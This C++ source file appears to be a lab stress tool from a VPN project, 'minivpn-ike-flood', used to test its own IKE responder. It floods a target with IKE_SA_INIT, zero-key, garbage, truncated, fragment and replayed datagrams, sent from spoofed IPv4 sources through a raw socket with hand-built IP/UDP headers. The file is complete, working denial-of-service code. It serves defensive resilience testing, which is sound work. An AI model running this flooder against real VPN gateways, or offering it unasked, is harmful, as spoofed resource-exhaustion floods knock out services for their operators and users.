// minivpn-ike-flood: the attacker of the lab's flood scenario (issue 18). It sends IKE datagrams
// to a responder at a fixed rate from spoofed IPv4 sources (raw socket, IP_HDRINCL), cycling
// through what an internet attacker can send without knowing a PSK:
//   init       IKE_SA_INIT with a valid X25519 public value (costs the responder a key pair and,
//              below the cookie threshold, a half-open SA)
//   zero-ke    IKE_SA_INIT with the all-zero X25519 value (RFC 7748 6.1: fails after key gen)
//   garbage    random octets
//   truncated  a valid IKE_SA_INIT cut short
//   fragment   an IKE_AUTH SKF "fragment 1 of 3" with random SPIs and a random body
//   replay     one captured IKE_SA_INIT sent again and again from one source
//
//   minivpn-ike-flood --target 198.51.100.1 [--port 500] [--rate 1000] [--duration 60]
//                     [--sources 100.64.0.0/10] [--seed 1]
// Prints one line of counts per kind at the end. Needs CAP_NET_RAW. A lab tool: never point it
// at a host you do not own.
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <sys/socket.h>
#include <unistd.h>

#include <array>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <random>
#include <string>
#include <thread>
#include <vector>

#include "crypto/key_exchange.h"
#include "ike/engine/engine_payloads.h"
#include "ike/engine/negotiation.h"
#include "ike/wire/codec.h"
#include "ike/wire/message.h"

namespace {

using namespace minivpn;
using namespace minivpn::ike;

struct Options {
  std::string target;
  std::uint16_t port = 500;
  double rate = 1000;
  double duration = 60;
  std::uint32_t source_net = 0x64400000;  // 100.64.0.0
  int source_prefix = 10;
  std::uint64_t seed = 1;
};

[[noreturn]] void Usage(const char* why) {
  std::fprintf(stderr,
               "minivpn-ike-flood: %s\nusage: minivpn-ike-flood --target IPV4 [--port 500] "
               "[--rate 1000] [--duration 60] [--sources 100.64.0.0/10] [--seed 1]\n",
               why);
  std::exit(2);
}

Options Parse(int argc, char** argv) {
  Options o;
  for (int i = 1; i < argc; ++i) {
    const std::string a = argv[i];
    if (i + 1 >= argc) Usage(("missing value for " + a).c_str());
    const std::string v = argv[++i];
    if (a == "--target") {
      o.target = v;
    } else if (a == "--port") {
      o.port = static_cast<std::uint16_t>(std::stoi(v));
    } else if (a == "--rate") {
      o.rate = std::stod(v);
    } else if (a == "--duration") {
      o.duration = std::stod(v);
    } else if (a == "--seed") {
      o.seed = std::stoull(v);
    } else if (a == "--sources") {
      const auto slash = v.find('/');
      in_addr net{};
      if (slash == std::string::npos || inet_pton(AF_INET, v.substr(0, slash).c_str(), &net) != 1)
        Usage("--sources needs A.B.C.D/N");
      o.source_net = ntohl(net.s_addr);
      o.source_prefix = std::stoi(v.substr(slash + 1));
    } else {
      Usage(("unknown option " + a).c_str());
    }
  }
  if (o.target.empty()) Usage("--target is required");
  return o;
}

Message Init(std::uint64_t spi, const Bytes& nonce, const Bytes& ke) {
  Message m;
  m.header = Header{.spi_i = spi, .exchange = ExchangeType::kIkeSaInit, .flags = kFlagInitiator};
  const IkeProposal proposal{.encr = {{crypto::EncrId::kAesGcm16, 256}},
                             .integ = {},
                             .prf = {crypto::PrfId::kHmacSha2_256},
                             .dh = {crypto::DhGroup::kCurve25519}};
  m.payloads.push_back(MakePayload(PayloadType::kSa, OfferIke({proposal}, {})));
  m.payloads.push_back(
      MakePayload(PayloadType::kKe, KePayload{.group = crypto::DhGroup::kCurve25519, .data = ke}));
  m.payloads.push_back(MakePayload(PayloadType::kNonce, NoncePayload{.data = nonce}));
  return m;
}

std::uint16_t Checksum(const std::uint8_t* data, std::size_t size) {
  std::uint32_t sum = 0;
  for (std::size_t i = 0; i + 1 < size; i += 2) sum += (data[i] << 8) | data[i + 1];
  if (size % 2) sum += data[size - 1] << 8;
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return static_cast<std::uint16_t>(~sum);
}

}  // namespace

int main(int argc, char** argv) {
  const Options o = Parse(argc, argv);
  in_addr target{};
  if (inet_pton(AF_INET, o.target.c_str(), &target) != 1) Usage("--target needs an IPv4 address");
  const int fd = ::socket(AF_INET, SOCK_RAW, IPPROTO_RAW);  // IP_HDRINCL implied
  if (fd < 0) {
    std::perror("minivpn-ike-flood: raw socket (needs CAP_NET_RAW)");
    return 1;
  }
  std::mt19937_64 rng(o.seed);
  auto random_bytes = [&](std::size_t n) {
    Bytes b(n);
    for (auto& x : b) x = static_cast<std::uint8_t>(rng());
    return b;
  };
  auto ke = crypto::KeyExchange::Generate(crypto::DhGroup::kCurve25519);
  if (!ke) return 1;
  const Bytes valid_ke = (*ke)->public_value();
  const Bytes zero_ke(32, 0);
  const Bytes replayed = Encode(Init(rng() | 1, random_bytes(32), valid_ke));
  const std::uint32_t replay_source = o.source_net | 1;
  const std::uint32_t host_mask =
      o.source_prefix >= 32 ? 0 : (0xffffffffu >> o.source_prefix);

  enum Kind { kInit, kZeroKe, kGarbage, kTruncated, kFragment, kReplay, kKinds };
  const char* names[kKinds] = {"init", "zero-ke", "garbage", "truncated", "fragment", "replay"};
  std::array<std::uint64_t, kKinds> sent{};
  std::uint64_t errors = 0;

  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_addr = target;
  const auto start = std::chrono::steady_clock::now();
  const auto period = std::chrono::duration<double>(1.0 / o.rate);
  std::uint64_t n = 0;
  for (;; ++n) {
    const auto due = start + std::chrono::duration_cast<std::chrono::steady_clock::duration>(
                                 period * static_cast<double>(n));
    if (due - start > std::chrono::duration<double>(o.duration)) break;
    std::this_thread::sleep_until(due);
    const auto kind = static_cast<Kind>(n % kKinds);
    Bytes ike;
    std::uint32_t source = o.source_net | (static_cast<std::uint32_t>(rng()) & host_mask);
    switch (kind) {
      case kInit: ike = Encode(Init(rng() | 1, random_bytes(32), valid_ke)); break;
      case kZeroKe: ike = Encode(Init(rng() | 1, random_bytes(32), zero_ke)); break;
      case kGarbage: ike = random_bytes(28 + rng() % 1200); break;
      case kTruncated: {
        ike = Encode(Init(rng() | 1, random_bytes(32), valid_ke));
        ike.resize(1 + rng() % (ike.size() - 1));
        break;
      }
      case kFragment: {
        Message m;
        m.header = Header{.spi_i = rng() | 1,
                          .spi_r = rng() | 1,
                          .exchange = ExchangeType::kIkeAuth,
                          .flags = kFlagInitiator,
                          .message_id = 1};
        m.payloads.push_back(MakePayload(
            PayloadType::kSkf, SkfPayload{.first_inner = PayloadType::kIdi,
                                          .fragment_number = 1,
                                          .total_fragments = 3,
                                          .body = random_bytes(200 + rng() % 900)}));
        ike = Encode(m);
        break;
      }
      case kReplay:
        ike = replayed;
        source = replay_source;
        break;
      case kKinds: break;
    }
    std::vector<std::uint8_t> packet(sizeof(iphdr) + sizeof(udphdr) + ike.size());
    auto* ip = reinterpret_cast<iphdr*>(packet.data());
    ip->version = 4;
    ip->ihl = 5;
    ip->ttl = 64;
    ip->protocol = IPPROTO_UDP;
    ip->tot_len = htons(static_cast<std::uint16_t>(packet.size()));
    ip->saddr = htonl(source);
    ip->daddr = target.s_addr;
    ip->check = htons(Checksum(packet.data(), sizeof(iphdr)));
    auto* udp = reinterpret_cast<udphdr*>(packet.data() + sizeof(iphdr));
    udp->source = htons(500);
    udp->dest = htons(o.port);
    udp->len = htons(static_cast<std::uint16_t>(sizeof(udphdr) + ike.size()));
    udp->check = 0;  // optional over IPv4
    std::memcpy(packet.data() + sizeof(iphdr) + sizeof(udphdr), ike.data(), ike.size());
    if (::sendto(fd, packet.data(), packet.size(), 0, reinterpret_cast<sockaddr*>(&to),
                 sizeof to) < 0) {
      ++errors;
    } else {
      ++sent[kind];
    }
  }
  const double took =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
  std::printf("flood: %llu datagrams in %.1f s (%.0f/s):", static_cast<unsigned long long>(n),
              took, static_cast<double>(n) / took);
  for (int k = 0; k < kKinds; ++k)
    std::printf(" %s %llu", names[k], static_cast<unsigned long long>(sent[k]));
  std::printf(", send errors %llu\n", static_cast<unsigned long long>(errors));
  ::close(fd);
  return 0;
}
